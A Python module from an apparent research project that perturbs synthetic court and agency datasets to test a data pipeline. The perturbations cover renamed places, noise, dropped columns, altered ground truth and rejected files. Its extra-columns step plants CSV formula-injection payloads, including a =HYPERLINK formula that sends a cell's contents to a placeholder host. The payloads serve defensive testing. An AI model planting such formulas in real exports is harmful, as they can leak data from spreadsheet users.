"""The world zoo's perturbations: each changes a world held as text (:class:`ZooFiles`) in
one way the data contract allows (or, for the last two, in one way it forbids).

Every perturbation takes the files and a seeded generator, changes the files in place and
returns a small dict of what it did. :data:`PERTURBATIONS` lists them in the order a zoo
world applies them (names before places before extra columns before noise before Parquet).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import numpy as np
import pandas as pd

from fdac_research.world._zoo_io import ZooFiles, column_kind, is_reference
from fdac_research.world._zoo_pools import (
    COURT_MAP,
    LA_MAP,
    NAME_MAP,
    NAME_TOKEN_SPLIT,
    OTHER_SUBSTANCES,
    SUBSTANCE_WORDS,
)

__all__ = [
    "PERTURBATIONS",
    "Perturbation",
    "foreign_names",
    "foreign_places",
    "foreign_substances",
    "extra_columns",
    "drop_optional",
    "drop_attributes",
    "foreign_truth",
    "bad_agency_name",
    "duplicate_header",
    "text_noise",
    "no_truth",
    "parquet",
    "NOTE_PAYLOADS",
    "BAD_AGENCY_FILE",
]

Perturbation = Callable[[ZooFiles, np.random.Generator], dict[str, Any]]

# Free text a spreadsheet would run as a formula or a command if it were exported unescaped.
NOTE_PAYLOADS = ("=SUM(A1:A2)", "+44 20 7946 0000", "-cmd", "@foo")
_NOTES = (
    "",
    "",
    "",
    "Letter sent, no reply",
    'Said "not today", rebooked',
    "Seen at home; see file, p. 3",
    "Interpreter needed, Polish",
    'Left early, "upset", will call back',
)
# Agency attribute columns the contract names only "for example".
_EXAMPLE_ATTRIBUTES = (
    "cautions",
    "child_protection_plans",
    "treatment_episodes",
    "school_attendance_pct",
    "safeguarding_concerns",
)
_ANALYSIS_ATTRIBUTES = {
    "agencies/substance_misuse": "substances",
    "agencies/health": "mental_health",
    "agencies/police": "convictions",
}
BAD_AGENCY_FILE = "agencies/youth-offending"
_PADS = (" ", "  ", "\t", "\u00a0")
_CLOSED_KINDS = ("category", "bool", "list")
_SEPARATORS = (";", "; ", " ;", " ; ")


def _agencies(files: ZooFiles) -> list[str]:
    return sorted(k for k in files.tables if k.startswith("agencies/"))


def _sources(files: ZooFiles) -> list[str]:
    return sorted(k for k in files.tables if not k.startswith("truth/"))


def _map_column(df: pd.DataFrame, col: str, fn: Callable[[str], str]) -> int:
    """Replace ``df[col]`` by ``fn`` of each value (computed once per distinct value)."""
    s = df[col]
    new = s.map({v: fn(v) for v in pd.unique(s)})
    df[col] = new
    return int((new != s).sum())


def _lookup(mapping: dict[str, str]) -> Callable[[str], str]:
    """``mapping[v]`` where defined, else ``v``."""
    return lambda v: mapping.get(v, v)


# --- 1-3: someone else's names, places and substances -----------------------------------
def _foreign_name(cell: str) -> str:
    return "".join(NAME_MAP.get(t, t) for t in NAME_TOKEN_SPLIT.split(cell)) if cell else cell


def foreign_names(files: ZooFiles, rng: np.random.Generator) -> dict[str, Any]:
    """Map every name token of the reference lists onto the foreign pool (one fixed
    bijection, the same in every file); other tokens (typos, rare composed names) stay."""
    changed = 0
    for key in ["court_people", *_agencies(files)]:
        df = files.tables.get(key)
        for col in ("given_name", "family_name"):
            if df is not None and col in df.columns:
                changed += _map_column(df, col, _foreign_name)
    return {"cells_changed": changed, "names_mapped": len(NAME_MAP)}


def foreign_places(files: ZooFiles, rng: np.random.Generator) -> dict[str, Any]:
    """Replace the 9 courts and 17 local authorities one to one by other real ones (and one
    invented local authority), keeping which court hears which local authority."""
    changed = 0
    for key in _sources(files):
        df = files.tables[key]
        for col, mapping in (("court", COURT_MAP), ("local_authority", LA_MAP)):
            if col in df.columns:
                changed += _map_column(df, col, _lookup(mapping))
    return {"cells_changed": changed, "courts": len(COURT_MAP), "local_authorities": len(LA_MAP)}


def foreign_substances(files: ZooFiles, rng: np.random.Generator) -> dict[str, Any]:
    """Write the substance-misuse service's ``substances`` in another service's words, with
    varied separator spacing (``alcohol; opiates``, ``alcohol ;opiates``)."""
    df = files.tables.get("agencies/substance_misuse")
    if df is None or "substances" not in df.columns:
        return {"cells_changed": 0}
    out = []
    for cell in df["substances"].tolist():
        if not cell:
            out.append(cell)
            continue
        words = []
        for item in cell.split(";"):
            if item == "heroin":
                words.append("Heroin" if rng.random() < 0.25 else "opiates")
            elif item == "other":
                words.append(OTHER_SUBSTANCES[int(rng.integers(len(OTHER_SUBSTANCES)))])
            else:
                words.append(SUBSTANCE_WORDS.get(item, item))
        out.append(_SEPARATORS[int(rng.integers(len(_SEPARATORS)))].join(words))
    changed = int((pd.Series(out, index=df.index) != df["substances"]).sum())
    df["substances"] = out
    return {"cells_changed": changed}


# --- 4: columns the contract does not declare --------------------------------------------
def _notes(rng: np.random.Generator, n: int) -> list[str]:
    notes = [_NOTES[i] for i in rng.integers(0, len(_NOTES), n)]
    if n >= len(NOTE_PAYLOADS):
        for payload, i in zip(
            NOTE_PAYLOADS, rng.choice(n, len(NOTE_PAYLOADS), replace=False), strict=True
        ):
            notes[int(i)] = payload
    return notes


def _ids(rng: np.random.Generator, n: int, prefix: str, digits: int) -> list[str]:
    nums = rng.choice(10**digits, n, replace=False)
    return [f"{prefix}{x:0{digits}d}" for x in nums]


def _age(dob: pd.Series, on: pd.Series) -> list[str]:
    b = pd.to_datetime(dob, format="%Y-%m-%d", errors="coerce")
    d = pd.to_datetime(on, format="%Y-%m-%d", errors="coerce")
    before = (d.dt.month * 100 + d.dt.day) < (b.dt.month * 100 + b.dt.day)
    years = (d.dt.year - b.dt.year - before.astype(int)).astype("Int64")
    return ["" if pd.isna(v) else str(int(v)) for v in years]


def extra_columns(files: ZooFiles, rng: np.random.Generator) -> dict[str, Any]:
    """Add undeclared columns to every sources file, some named like other files' columns or
    like columns the stages derive, with spreadsheet-formula payloads; one court's name
    becomes a ``=HYPERLINK(...)`` formula (the same for every case of that court)."""
    t = files.tables
    added: dict[str, list[str]] = {}

    def add(key: str, col: str, values: Any) -> None:
        if key in t:
            t[key][col] = values
            added.setdefault(key, []).append(col)

    cases = t["court_cases"]
    target = sorted(pd.unique(cases["court"]))[0]
    payload = f'=HYPERLINK("http://example.invalid/?"&A2,"{target}")'
    cases.loc[cases["court"] == target, "court"] = payload
    staff = [
        f"{a}{b} (SW{i:03d})" for a, b, i in zip("AJKMRS", "BDHLPT", range(7, 70, 11), strict=True)
    ]
    add("court_cases", " caseworker ", [staff[i] for i in rng.integers(0, len(staff), len(cases))])
    case_ix = cases.set_index("case_ref")
    other_case_id = dict(zip(cases["case_ref"], _ids(rng, len(cases), "ZC", 7), strict=True))
    people = t["court_people"]
    n = len(people)
    add("court_people", "notes", _notes(rng, n))
    add("court_people", "local_authority", people["case_ref"].map(case_ix["local_authority"]))
    add(
        "court_people",
        "age",
        _age(people["date_of_birth"], people["case_ref"].map(case_ix["application_date"])),
    )
    add("court_people", "person_id", _ids(rng, n, "PID", 7))
    add("court_people", "case_id", people["case_ref"].map(other_case_id))
    add("court_people", "person_key", [f"{x:016x}" for x in rng.integers(0, 2**63, n)])
    case_of_person = dict(zip(people["person_ref"], people["case_ref"], strict=True))
    if "court_outcomes" in t:
        out = t["court_outcomes"]
        add("court_outcomes", "notes", _notes(rng, len(out)))
        add("court_outcomes", "case_ref", out["person_ref"].map(case_of_person).fillna(""))
    if "hearings" in t:
        h = t["hearings"]
        add("hearings", "notes", _notes(rng, len(h)))
        add("hearings", "cohort", h["case_ref"].map(case_ix["cohort"]).fillna(""))
    if "opt_outs" in t:
        channels = ("letter", "email", "phone", "in person")
        picks = rng.integers(0, len(channels), len(t["opt_outs"]))
        add("opt_outs", "channel", [channels[i] for i in picks])
    for key in _agencies(files):
        add(key, "extracted_on", files.config.extract_date)
    agencies = _agencies(files)
    if agencies:
        key = "agencies/local_authority" if "agencies/local_authority" in t else agencies[0]
        systems = ("Mosaic", "LiquidLogic LCS", "Eclipse")
        add(key, "source", [systems[i] for i in rng.integers(0, 3, len(t[key]))])
    if "agencies/health" in t:
        health = t["agencies/health"]
        person = health["record_id"]  # one number per record, or per true person if known
        links = t.get("truth/agency_links")
        if links is not None and {"agency", "record_id", "true_person_id"} <= set(links.columns):
            who = links[links["agency"] == "health"].set_index("record_id")["true_person_id"]
            person = health["record_id"].map(who).fillna(health["record_id"])
        keys = sorted(pd.unique(person))
        number = dict(zip(keys, _ids(rng, len(keys), "999", 7), strict=True))
        add("agencies/health", "nhs_number", person.map(number))
    return {"formula_court": target, "columns": {k: v for k, v in sorted(added.items())}}


# --- 5-6: optional files, columns and values absent --------------------------------------
def _drop_links(files: ZooFiles, agencies: list[str]) -> None:
    links = files.tables.get("truth/agency_links")
    if links is not None and "agency" in links.columns:
        files.tables["truth/agency_links"] = links[~links["agency"].isin(agencies)].reset_index(
            drop=True
        )


def drop_optional(files: ZooFiles, rng: np.random.Generator) -> dict[str, Any]:
    """Remove what the contract makes optional: the opt-out register, the Cafcass and
    education extracts, the "for example" agency attributes, and every ethnicity value
    (the column stays: it is required, its values are optional)."""
    gone = [k for k in ("opt_outs", "agencies/cafcass", "agencies/education") if k in files.tables]
    for k in gone:
        del files.tables[k]
    _drop_links(files, [k.split("/", 1)[1] for k in gone if k.startswith("agencies/")])
    dropped = {}
    for key in _agencies(files):
        cols = [c for c in _EXAMPLE_ATTRIBUTES if c in files.tables[key].columns]
        if cols:
            files.tables[key] = files.tables[key].drop(columns=cols)
            dropped[key] = cols
    if "ethnicity" in files.tables["court_people"].columns:
        files.tables["court_people"]["ethnicity"] = ""
    return {"files_removed": gone, "columns_removed": dropped, "ethnicity_blanked": True}


def drop_attributes(files: ZooFiles, rng: np.random.Generator) -> dict[str, Any]:
    """Remove the agency attributes the analysis uses (substances, mental health,
    convictions); the files stay."""
    dropped = {}
    for key, col in _ANALYSIS_ATTRIBUTES.items():
        if key in files.tables and col in files.tables[key].columns:
            files.tables[key] = files.tables[key].drop(columns=col)
            dropped[key] = col
    return {"columns_removed": dropped}


# --- 9-10: someone else's truth, or none -------------------------------------------------
_OUTCOMES = {
    "reunified_children": ("reunified", "children"),
    "ceased_misuse_mothers": ("ceased_misuse", "mothers"),
    "ceased_misuse_fathers": ("ceased_misuse", "fathers"),
}
_TRUTH_PEOPLE = {
    "true_person_id": "person",
    "person_ref": "court_person",
    "case_ref": "case",
    "role": "role_in_case",
    "hidden_confounder": "u",
    "potential_outcome_untreated": "y0",
    "potential_outcome_treated": "y1",
}
_TRUTH_LINKS = {"agency": "source", "record_id": "id", "true_person_id": "person"}


def foreign_truth(files: ZooFiles, rng: np.random.Generator) -> dict[str, Any]:
    """Rewrite ``truth/`` the way another generator might: a list of ``true_effects`` in
    ``effects.json`` and other column names in ``people.csv`` and ``agency_links.csv``."""
    raw = files.blobs.get("truth/effects.json")
    if raw is None:
        return {"rewritten": []}
    effects = json.loads(raw)["effects"]
    rows = []
    for key, (outcome, population) in _OUTCOMES.items():
        for est in ("ate", "att"):
            e = effects[key][est]
            rows.append(
                {
                    "outcome": outcome,
                    "population": population,
                    "estimand": est.upper(),
                    "odds_ratio": e["odds_ratio"],
                    "risk_difference": e["risk_difference"],
                    "risk_treated": e["p_treated"],
                    "risk_untreated": e["p_untreated"],
                }
            )
    cfg = files.config
    doc = {
        "generator": "other",
        "generator_version": "2.3.1",
        "settings": {
            "families": cfg.n_families,
            "random_seed": cfg.seed,
            "unmeasured_confounding": cfg.hidden_confounder,
        },
        "true_effects": rows,
    }
    files.blobs["truth/effects.json"] = (json.dumps(doc, indent=4) + "\n").encode("utf-8")
    done = ["truth/effects.json"]
    for key, names in (("truth/people", _TRUTH_PEOPLE), ("truth/agency_links", _TRUTH_LINKS)):
        if key in files.tables:
            df = files.tables[key].rename(columns=names)
            first = [names[c] for c in names if names[c] in df.columns]
            files.tables[key] = df[first + [c for c in df.columns if c not in first]]
            done.append(key)
    return {"rewritten": done, "people_columns": _TRUTH_PEOPLE, "link_columns": _TRUTH_LINKS}


def no_truth(files: ZooFiles, rng: np.random.Generator) -> dict[str, Any]:
    """Remove ``truth/`` entirely: the folder looks like real data."""
    gone = sorted(k for k in files.tables if k.startswith("truth/"))
    gone += sorted(k for k in files.blobs if k.startswith("truth/"))
    for k in gone:
        files.tables.pop(k, None)
        files.blobs.pop(k, None)
    return {"removed": gone}


# --- 11-12: what the contract forbids (meant to be rejected) -----------------------------
def bad_agency_name(files: ZooFiles, rng: np.random.Generator) -> dict[str, Any]:
    """Rename one agency file to ``agencies/youth-offending.csv`` (a hyphen: not a valid
    agency name)."""
    agencies = _agencies(files)
    src = "agencies/police" if "agencies/police" in agencies else agencies[0]
    files.tables[BAD_AGENCY_FILE] = files.tables.pop(src)
    links = files.tables.get("truth/agency_links")
    new = BAD_AGENCY_FILE.split("/", 1)[1]
    if links is not None and "agency" in links.columns:
        links.loc[links["agency"] == src.split("/", 1)[1], "agency"] = new
    return {"renamed": {src: BAD_AGENCY_FILE}}


def duplicate_header(files: ZooFiles, rng: np.random.Generator) -> dict[str, Any]:
    """Give ``court_cases`` a second ``court`` column (right after the first) holding a
    different court for every case."""
    cases = files.tables["court_cases"]
    courts = sorted(pd.unique(cases["court"]))
    other = {c: courts[(i + 1) % len(courts)] for i, c in enumerate(courts)}
    if len(courts) == 1:
        other = {courts[0]: courts[0] + " Annex"}
    loc = list(cases.columns).index("court") + 1
    cases.insert(loc, "court", cases["court"].map(other), allow_duplicates=True)
    return {"file": "court_cases", "column": "court"}


# --- 8: text noise ---------------------------------------------------------------------
def _case_variant(value: str, rng: np.random.Generator) -> str:
    forms = (value.upper(), value.capitalize(), value.title(), value.lower())
    options = [f for f in dict.fromkeys(forms) if f != value]
    return options[int(rng.integers(len(options)))] if options else value


def _pad(value: str, rng: np.random.Generator) -> str:
    where = int(rng.integers(3))  # 0 before, 1 after, 2 both
    before = _PADS[int(rng.integers(len(_PADS)))] if where != 1 else ""
    after = _PADS[int(rng.integers(len(_PADS)))] if where != 0 else ""
    return before + value + after


def _postcode_variant(value: str, rng: np.random.Generator) -> str:
    k = int(rng.integers(4))
    if k == 0:
        return value.lower()
    if k == 1:
        return value.replace(" ", "")
    if k == 2:
        return value.replace(" ", "  ")
    return value.lower().replace(" ", "")


def text_noise(
    files: ZooFiles,
    rng: np.random.Generator,
    *,
    pad_share: float = 0.15,
    case_share: float = 0.3,
    postcode_share: float = 0.4,
) -> dict[str, Any]:
    """Whitespace around a share of cells of every column of every sources file (spaces, a
    tab, a non-breaking space; empty cells become blank ones); case variants of closed
    vocabularies (categories, booleans, lists); postcodes lower-cased, unspaced or double
    spaced; every CSV with a BOM and CRLF line endings. References get whitespace only.
    The opt-out register also gets padded references, one objection twice, and one given
    twice with a different case of scope. ``truth/`` is left as it is."""
    counts = {"padded": 0, "case_variants": 0, "postcodes": 0}
    for key in _sources(files):
        df = files.tables[key]
        for j, col in enumerate(list(df.columns)):
            vals = df.iloc[:, j].to_numpy(dtype=object).copy()
            n = len(vals)
            filled = vals != ""
            ref = is_reference(key, str(col))
            if not ref and column_kind(key, str(col)) in _CLOSED_KINDS:
                for i in np.flatnonzero((rng.random(n) < case_share) & filled):
                    vals[i] = _case_variant(vals[i], rng)
                    counts["case_variants"] += 1
            if col == "postcode":
                for i in np.flatnonzero((rng.random(n) < postcode_share) & filled):
                    vals[i] = _postcode_variant(vals[i], rng)
                    counts["postcodes"] += 1
            hit = rng.random(n) < pad_share
            if key == "opt_outs" and ref:
                hit = filled
            for i in np.flatnonzero(hit):
                vals[i] = _pad(vals[i], rng)
                counts["padded"] += 1
            df.isetitem(j, vals)
    opt = files.tables.get("opt_outs")
    added = 0
    if opt is not None and len(opt) and "scope" in opt.columns:
        i, j = (int(x) for x in rng.choice(len(opt), 2, replace=len(opt) < 2))
        twice = opt.iloc[[j]].copy()
        scope = str(twice["scope"].iloc[0]).strip()
        options = [
            f for f in dict.fromkeys((scope.lower(), scope.upper(), scope.title())) if f != scope
        ]
        twice["scope"] = options[int(rng.integers(len(options)))]
        files.tables["opt_outs"] = pd.concat([opt, opt.iloc[[i]], twice], ignore_index=True)
        added = 2
    files.bom, files.newline = True, "\r\n"
    return {**counts, "opt_out_rows_added": added}


# --- 7: Parquet ------------------------------------------------------------------------
def parquet(files: ZooFiles, rng: np.random.Generator) -> dict[str, Any]:
    """Write every table as typed Parquet instead of CSV (dates ``date32``, booleans
    ``bool``, counts ``int64``, floats ``float64``, text ``string``; empty -> null)."""
    files.parquet = True
    return {"tables": len(files.tables)}


PERTURBATIONS: dict[str, Perturbation] = {
    "foreign_names": foreign_names,
    "foreign_places": foreign_places,
    "foreign_substances": foreign_substances,
    "extra_columns": extra_columns,
    "drop_optional": drop_optional,
    "drop_attributes": drop_attributes,
    "foreign_truth": foreign_truth,
    "bad_agency_name": bad_agency_name,
    "duplicate_header": duplicate_header,
    "text_noise": text_noise,
    "no_truth": no_truth,
    "parquet": parquet,
}
